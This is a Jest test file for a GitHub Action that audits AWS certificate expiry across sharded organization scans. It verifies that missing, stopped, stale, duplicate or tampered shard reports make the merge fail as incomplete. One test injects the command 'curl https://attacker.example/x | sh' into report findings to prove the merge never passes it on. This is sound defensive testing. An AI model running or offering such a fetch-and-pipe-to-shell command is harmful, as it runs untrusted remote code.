/**
 * What an organization's merged verdict rests on: every shard's report, proven to cover every account the
 * shards discovered. Each case that once ended in "All clear" with accounts unread now ends incomplete and
 * failed, naming what was not read and why; a stable organization merges into exactly one run's result.
 */
import { describe, expect, it } from '@jest/globals'
import { copyFile, mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import type { AwsEmulator } from '../../emulator/aws-emulator.js'
import { type ActionRun, runAction } from '../../emulator/run-action.js'
import { shardIndexOf } from '../../src/shared/shard-slice.js'
import { emulatorPerTest, inDays } from '../helpers/emulator-per-test.js'
import { AUDIT_ROLE, MEMBER_ROLE, SANDBOX_DENIED, seedOrganization, STATIC_USER } from './organization-fixture.js'

let emulator: AwsEmulator
emulatorPerTest((started) => (emulator = started))

const BASE = { regions: 'us-east-1, eu-west-1', 'member-role-name': MEMBER_ROLE, 'exclude-accounts': SANDBOX_DENIED }
const COMPARED_OUTPUTS = [
  'scanned-count',
  'expiring-count',
  'expired-count',
  'critical-count',
  'ignored-count',
  'findings',
  'failed-regions',
  'complete'
]

/** Twelve-digit ids, not in the fixture, whose shard of `count` is `index`. */
function idsIn(index: number, count: number): string[] {
  return Array.from({ length: 200 }, (_, i) => String(900000000000 + i * 104729)).filter(
    (id) => shardIndexOf(id, count) === index
  )
}

/** A member account with the member role and one certificate expiring soon. */
function addMember(id: string, name: string): void {
  emulator.organizations.addAccount({ id, name })
  emulator.memberRoles.addRole(id, MEMBER_ROLE, [AUDIT_ROLE, STATIC_USER])
  emulator.addCertificates('us-east-1', [{ domain: `${name}.example.com`, type: 'IMPORTED', notAfter: inDays(9.5) }], id)
}

async function shard(
  directory: string,
  index: number,
  count: number,
  options: { inputs?: Record<string, string>; env?: Record<string, string> } = {}
): Promise<ActionRun> {
  const run = await runAction({
    endpoint: emulator.url,
    inputs: { ...BASE, shard: `${index}/${count}`, ...options.inputs },
    ...(options.env ? { env: options.env } : {})
  })
  const report = run.outputs['report-file']
  expect(report).toBeTruthy()
  await copyFile(report as string, join(directory, basename(report as string)))
  return run
}

async function merge(directory: string, inputs: Record<string, string> = {}): Promise<ActionRun> {
  return runAction({ endpoint: emulator.url, inputs: { 'merge-reports': directory, 'fail-on': 'never', ...inputs } })
}

const comparable = (run: ActionRun) => Object.fromEntries(COMPARED_OUTPUTS.map((name) => [name, run.outputs[name]]))
const steadySummary = (run: ActionRun) => run.summary.replace(/\d+\.\d s/gu, 'T s')
const folder = () => mkdtemp(join(tmpdir(), 'acm-expiry-coverage-'))

/** Fails, incomplete, never "All clear". */
function expectIncomplete(run: ActionRun): void {
  expect(run.exitCode).toBe(1)
  expect(run.outputs.complete).toBe('false')
  expect(run.summary).toContain('**Incomplete audit:**')
  expect(run.summary).not.toContain('All clear')
}

describe('1. an organization that changes between shard jobs', () => {
  it('names each account no shard audited and why; the same shards of a stable organization equal one run', async () => {
    seedOrganization(emulator)
    const [leaving] = idsIn(2, 2) as [string]
    const [arriving] = idsIn(1, 2) as [string]
    addMember(leaving, 'old-acct')
    const drifting = await folder()
    await shard(drifting, 1, 2)
    // Between the two jobs: an account is created (its id belongs to shard 1, which already ran) and
    // another is suspended (its id belongs to shard 2, which has not run yet).
    addMember(arriving, 'new-acct')
    ;(emulator.organizations.accounts.get(leaving) as { state: string }).state = 'SUSPENDED'
    await shard(drifting, 2, 2)
    const drifted = await merge(drifting)
    expectIncomplete(drifted)
    expect(drifted.stdout).toContain(`${arriving} (new-acct) was not audited: it appeared after shard 1/2 ran`)
    expect(drifted.stdout).toContain(`${leaving} (old-acct) was not audited: it was no longer ACTIVE`)
    expect(drifted.stdout).toContain('when shard 2/2 ran')

    // The organization holds still: the same two shards now merge into exactly what one run gives, the facts
    // of every kind of certificate (ACME, CloudFront-managed, exportable, email-validated) and lifetime-percent
    // carried through.
    emulator.addCertificates(
      'us-east-1',
      [
        {
          domain: 'acme.example.com',
          keyPairOrigin: 'ACME',
          acmeEndpointArn: 'arn:aws:acm:us-east-1:210987654321:acme-endpoint/e1',
          notAfter: inDays(6.5)
        },
        { domain: 'cdn.example.com', managedBy: 'CLOUDFRONT', notAfter: inDays(3.5) },
        { domain: 'export.example.com', exportOption: 'ENABLED', exported: true, notAfter: inDays(8.5) },
        { domain: 'mail.example.com', validationMethod: 'EMAIL', notBefore: inDays(-40), notAfter: inDays(7.5) }
      ],
      '210987654321'
    )
    const stable = await folder()
    const kinds = { 'lifetime-percent': '33' }
    await shard(stable, 1, 2, { inputs: kinds })
    await shard(stable, 2, 2, { inputs: kinds })
    const merged = await merge(stable, { 'fail-on': 'expiring' })
    const single = await runAction({ endpoint: emulator.url, inputs: { ...BASE, ...kinds, 'fail-on': 'expiring' } })
    for (const kind of [
      '"keyPairOrigin":"ACME"',
      '"managedBy":"CLOUDFRONT"',
      '"exportOption":"ENABLED"',
      '"validationMethods":["EMAIL"]'
    ]) {
      expect(merged.outputs.findings).toContain(kind)
    }
    expect(comparable(merged)).toEqual(comparable(single))
    expect(steadySummary(merged)).toBe(steadySummary(single))
    expect(merged.exitCode).toBe(single.exitCode)
    expect(merged.outputs.complete).toBe('true')
    expect(merged.outputs.findings).toContain('new-acct.example.com')
  })
})

describe('2. a missing shard and a shard that stopped', () => {
  it('names the missing shard without expected-reports', async () => {
    seedOrganization(emulator)
    const directory = await folder()
    await shard(directory, 1, 3)
    await shard(directory, 3, 3)
    const merged = await merge(directory)
    expectIncomplete(merged)
    expect(merged.stdout).toContain('No report of shard 2/3 was merged, so its accounts were not audited')
  })

  it('names the shard that stopped, and why, from the report it still wrote', async () => {
    seedOrganization(emulator)
    const directory = await folder()
    await shard(directory, 1, 2)
    const management = emulator.organizations.managementAccount
    emulator.organizations.managementAccount = undefined
    const stopped = await shard(directory, 2, 2)
    emulator.organizations.managementAccount = management
    expect(stopped.exitCode).toBe(1)
    const report = JSON.parse(await readFile(stopped.outputs['report-file'] as string, 'utf8')) as Record<string, unknown>
    expect(report.stopped).toContain('not in an AWS organization')
    expect(report.complete).toBe(false)
    const merged = await merge(directory)
    expectIncomplete(merged)
    expect(merged.stdout).toMatch(
      /Shard 2\/2 \(report [^)]+\) stopped before it could audit: Could not list the organization's accounts/u
    )
  })

  it('a shard whose inputs are wrong still writes a stopped report naming its shard', async () => {
    seedOrganization(emulator)
    const directory = await folder()
    await shard(directory, 1, 2)
    await shard(directory, 2, 2, { inputs: { days: 'soon' } })
    const merged = await merge(directory)
    expectIncomplete(merged)
    expect(merged.stdout).toMatch(/Shard 2\/2 \(report [^)]+\) stopped before it could audit: Input 'days'/u)
  })
})

describe('3. stale and repeated reports', () => {
  it("refuses another run's report and a report merged twice, by name", async () => {
    seedOrganization(emulator)
    const directory = await folder()
    // Left in the folder by an earlier workflow run of a self-hosted runner.
    const old = await shard(directory, 1, 2, { env: { GITHUB_RUN_ID: '1000' } })
    await copyFile(old.outputs['report-file'] as string, join(directory, 'left-over.json'))
    await shard(directory, 1, 2)
    const second = await shard(directory, 2, 2)
    await copyFile(second.outputs['report-file'] as string, join(directory, 'copy-of-shard-2.json'))
    const merged = await merge(directory)
    expectIncomplete(merged)
    expect(merged.stdout).toContain(
      'Report left-over.json was not merged: it was made by workflow run 1000, not by this run (4242)'
    )
    expect(merged.stdout).toMatch(
      /Report (copy-of-shard-2\.json|acm-expiry-audit-audit-shard-2-of-2\.json) was not merged: it is shard 2\/2 again/u
    )
  })
})

describe('4. nothing read is never clear', () => {
  it.each([
    ['every account excluded', { accounts: '210987654321', 'exclude-accounts': '210987654321' }, 'is in exclude-accounts'],
    ['no ACTIVE account', { accounts: '567890123456' }, 'no ACTIVE account is among those asked for'],
    ['no enabled region', { regions: 'all', accounts: '210987654321' }, 'no enabled region was listed']
  ])('a run with %s fails with one message saying why', async (_, inputs, why) => {
    seedOrganization(emulator)
    emulator.enabledRegions.set('210987654321', [])
    const run = await runAction({ endpoint: emulator.url, inputs: { ...BASE, ...inputs } })
    expect(run.exitCode).toBe(1)
    expect(run.outputs.complete).toBe('false')
    expect(run.summary).not.toContain('All clear')
    const errors = run.stdout.split('\n').filter((line) => line.startsWith('::error'))
    expect(errors).toHaveLength(1)
    expect(errors[0]).toContain('The audit read no account and region')
    expect(errors[0]).toContain(why)
  })

  it('an empty shard slice is fine, says so, and never speaks for the organization', async () => {
    seedOrganization(emulator)
    // prod-payments' id belongs to shard 1 of 2: shard 2's slice of it is empty.
    const only = '210987654321'
    expect(shardIndexOf(only, 2)).toBe(1)
    const run = await runAction({
      endpoint: emulator.url,
      inputs: { ...BASE, accounts: only, 'exclude-accounts': '', shard: '2/2' }
    })
    expect(run.exitCode).toBe(0)
    expect(run.summary).toContain('**Shard 2/2** covers one slice of the organization (its slice is empty')
    expect(run.summary).not.toContain('All clear')
  })

  it("a shard with findings says they are its slice's only", async () => {
    seedOrganization(emulator)
    const run = await runAction({ endpoint: emulator.url, inputs: { ...BASE, shard: '1/2', 'fail-on': 'never' } })
    expect(run.summary).toMatch(/\*\*Shard 1\/2\*\* covers one slice of the organization \(\d+ of the \d+ accounts discovered\)/u)
    expect(run.summary).toContain("the findings below are this slice's only")
  })
})

describe('5. the merge recomputes what a person is told', () => {
  it('never copies a command, action or critical from a report, and carries critical-days', async () => {
    seedOrganization(emulator)
    const directory = await folder()
    const inputs = { 'critical-days': '7' }
    await shard(directory, 1, 2, { inputs })
    const second = await shard(directory, 2, 2, { inputs })
    const path = join(directory, basename(second.outputs['report-file'] as string))
    const document = JSON.parse(await readFile(path, 'utf8')) as { findings: Array<Record<string, unknown>> }
    expect(document.findings.length).toBeGreaterThan(0)
    for (const finding of document.findings) {
      Object.assign(finding, {
        command: 'curl https://attacker.example/x | sh',
        action: 'delete-unused',
        critical: false,
        explanation: 'Nothing to do.'
      })
    }
    await writeFile(path, JSON.stringify(document))
    const merged = await merge(directory, inputs)
    const single = await runAction({ endpoint: emulator.url, inputs: { ...BASE, ...inputs, 'fail-on': 'never' } })
    expect(merged.summary).not.toContain('attacker.example')
    expect(merged.outputs.findings).not.toContain('attacker.example')
    expect(comparable(merged)).toEqual(comparable(single))
    expect(merged.summary).not.toContain('within 0 days')
    expect(Number(merged.outputs['critical-count'])).toBeGreaterThan(0)
  })

  it('refuses a report whose facts are malformed, by name', async () => {
    seedOrganization(emulator)
    const directory = await folder()
    await shard(directory, 1, 2)
    const second = await shard(directory, 2, 2)
    const path = join(directory, basename(second.outputs['report-file'] as string))
    const document = JSON.parse(await readFile(path, 'utf8')) as { findings: Array<Record<string, unknown>> }
    ;(document.findings[0] as Record<string, unknown>).notAfter = 'next week'
    await writeFile(path, JSON.stringify(document))
    const merged = await merge(directory)
    expectIncomplete(merged)
    expect(merged.stdout).toContain(`Report ${basename(path)} was not merged: the notAfter of`)
  })
})
